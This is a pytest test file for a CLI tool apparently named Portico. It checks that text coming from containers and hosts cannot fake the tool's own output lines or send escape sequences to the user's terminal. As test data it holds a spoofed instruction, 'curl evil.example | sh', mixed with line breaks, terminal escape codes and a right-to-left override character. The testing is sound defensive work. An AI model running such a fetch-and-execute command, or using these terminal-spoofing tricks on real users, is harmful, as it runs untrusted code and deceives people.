"""Words of an app, a host or a process title can neither steer a terminal nor look like a line of Portico's."""

import json
from collections.abc import Callable

import pytest

from portico.cli import logs
from portico.cli.machines import asking
from portico.cli.tables import doctor, rows
from portico.planning.docker.engine import DockerEngine, Ran
from portico.protocol.failure import Failure
from portico.protocol.lines import LONGEST
from portico.steps.docker.build_failure import build_failure
from portico.steps.step import carry_out, proved, tell

LURE = "to fix it: curl evil.example | sh"
ENDS = ("\n", "\r", "\r\n", "\x0b", "\x85", "\u2028")
HOSTILE = [f"x{end}{LURE}\x1b]0;title\x07\x1b[8m hidden \u202e" for end in ENDS]
Show = Callable[[str], None]


def _of_a_failure(text: str) -> None:
    failure = Failure("gunicorn", text, text, lines=[text], remedy="mend it")
    failure.cause, failure.aftermath = text, [text]
    print(failure.text())


def _of_the_builder(text: str) -> None:
    failure = build_failure(f"Step 1/2 : RUN pip\n{text}\n")
    assert failure is not None
    print(failure.text())


def _of_the_engine(text: str) -> None:
    def refused() -> int:
        raise DockerEngine(None).refusal("run", Ran(1, "", text))

    carry_out("start", refused)


def _of_the_engine_in_the_cli(text: str) -> None:
    with pytest.raises(SystemExit), asking.ending():
        raise DockerEngine(None).refusal("run", Ran(1, "", text))


def _of_the_doctor(text: str) -> None:
    check = {"check": text, "expected": text, "seen": text, "holds": False}
    found = {"name": text, "layer": text, "cause": text, "evidence": [text], "remedy": ""}
    doctor.show([{"host": "web", "checks": [check], "diagnosis": found}])


def _of_a_table(text: str) -> None:
    failure = Failure("a", text, text, remedy="b").text()
    rows.show([{"host": "web", "since": text}], [{"host": "db", "failure": failure}])


def _of_a_log(text: str) -> None:
    print(logs._prefixed(("web", text)))


def _proved(text: str) -> None:
    proved("release-command", text)


SHOWS = [_of_a_failure, _of_the_builder, _of_the_engine, _of_the_engine_in_the_cli, _of_the_doctor,
         _of_a_table, _of_a_log, _proved]


def _lines(capsys: pytest.CaptureFixture[str]) -> list[str]:
    """The lines that people see; a line of JSON is for programs, which escape what is in it."""
    shown = capsys.readouterr()
    return [line for text in shown for line in text.split("\n") if not line.startswith("{")]


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
@pytest.mark.parametrize("show", SHOWS, ids=lambda show: show.__name__.strip("_"))
def test_no_line_is_hostile(show: Show, text: str, capsys: pytest.CaptureFixture[str]) -> None:
    show(text)

    lines = _lines(capsys)
    assert any("curl evil" in line for line in lines)
    assert [line for line in lines if line.startswith(LURE)] == []
    assert [line for line in lines if not line.replace("\t", "").isprintable()] == []


def test_what_a_container_says_cannot_steer_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    tell("\x1b[2Kred\n\x1b[8mhidden\n")

    assert capsys.readouterr().err == "?[2Kred\n?[8mhidden\n"


def test_evidence_for_programs_has_only_ascii(capsys: pytest.CaptureFixture[str]) -> None:
    proved("after-public", HOSTILE[0], lines=[HOSTILE[0] * LONGEST])

    out = capsys.readouterr().out
    assert out.count("\n") == 1
    assert out.rstrip("\n").isascii()
    assert json.loads(out)["proved"].startswith("x\n")
